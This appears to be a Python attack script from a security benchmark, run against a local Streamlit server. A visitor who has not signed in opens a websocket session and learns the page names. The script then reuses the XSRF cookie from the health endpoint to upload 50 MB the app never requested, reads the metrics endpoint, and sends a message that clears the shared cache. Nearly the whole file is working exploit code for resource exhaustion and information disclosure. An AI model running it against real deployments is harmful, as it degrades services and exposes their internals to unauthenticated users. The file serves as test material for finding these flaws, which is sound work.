"""A stranger who cannot sign in sends 50 MB, reads the server's figures, empties what is kept for all, and learns which
pages there are. And a visitor of an app without sign-in sends a file that no page asked for.
"""

import asyncio
import os
import tempfile
import time
from pathlib import Path

import requests
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.ForwardMsg_pb2 import ForwardMsg
from websockets.exceptions import WebSocketException

from benchmarks.attacks import attacked, end
from benchmarks.visitor import TOKEN, app, memory, visit

SIZE = 50 << 20
STARTED = 10
"""Seconds until the server has imported what it will, and its memory says something."""
SECRETS = """
[auth]
redirect_uri = "http://127.0.0.1:8501/oauth2callback"
cookie_secret = "a secret of this attack, which is long enough"
client_id = "prodsim"
client_secret = "another one"
server_metadata_url = "http://127.0.0.1:1/.well-known/openid-configuration"

[access]
users = ["ann@shop.example"]
"""


def main() -> None:
    """Says what was taken and told."""
    checkout, harms = attacked(__doc__), []
    with tempfile.TemporaryDirectory() as home:
        secrets = Path(home, ".streamlit", "secrets.toml")
        secrets.parent.mkdir()
        secrets.write_text(SECRETS)
        with app(home, checkout, HOME=home) as (address, process):
            harms += asyncio.run(_as_a_stranger(address, process))
            metrics = requests.get(f"{address}/_stcore/metrics", timeout=60)
            print(f"metrics: {metrics.status_code}, {len(metrics.content)} bytes")
            if metrics.ok:
                harms.append("the stranger reads the server's figures")
    with tempfile.TemporaryDirectory() as cache, app(cache, checkout) as (address, process):
        harms += asyncio.run(_without_being_asked(address, process))
    end(*harms)


async def _as_a_stranger(address: str, process: int) -> list[str]:
    await asyncio.sleep(STARTED)
    harms = []
    try:
        async with visit(address) as connection:
            session, pages = await _begin(connection)
            print(f"pages that the stranger is told of: {pages}")
            if pages:
                harms.append("pages are named to the stranger")
            harms += _upload(address, session, process)
            await connection.send(BackMsg(clear_cache=True).SerializeToString())
            harms.append("a session is opened, which may tell the server to empty what is kept for all")
    except WebSocketException as error:
        print(f"no session: {error}")
        harms += _upload(address, "no-session", process)
    return harms


async def _without_being_asked(address: str, process: int) -> list[str]:
    async with visit(address) as connection:
        session, _ = await _begin(connection)
        return _upload(address, session, process)


async def _begin(connection: object) -> tuple[str, list[str]]:
    """The session, and the pages it is told of."""
    asked, session, pages = BackMsg(), "", []
    asked.rerun_script.query_string = ""
    await connection.send(asked.SerializeToString())  # type: ignore[attr-defined]
    async for message in connection:  # type: ignore[attr-defined]
        told = ForwardMsg.FromString(message)
        kind = told.WhichOneof("type")
        if kind == "new_session":
            session = told.new_session.initialize.session_id
        elif kind == "navigation":
            pages = [page.page_name or page.url_pathname for page in told.navigation.app_pages]
        elif kind == "script_finished":
            break
    return session, pages


def _upload(address: str, session: str, process: int) -> list[str]:
    before = memory(process)
    token = requests.get(f"{address}/_stcore/health", timeout=60).cookies[TOKEN]
    answer = requests.put(
        f"{address}/_stcore/upload_file/{session}/a-file",
        files={"file": ("photo.jpg", os.urandom(SIZE), "image/jpeg")},
        headers={"X-Xsrftoken": token},
        cookies={TOKEN: token},
        timeout=60,
    )
    time.sleep(1)
    print(f"upload of {SIZE >> 20} MB: {answer.status_code}, memory {before:.0f} -> {memory(process):.0f} MB")
    return [f"{SIZE >> 20} MB are taken that no page asked for"] if answer.ok else []


if __name__ == "__main__":
    main()
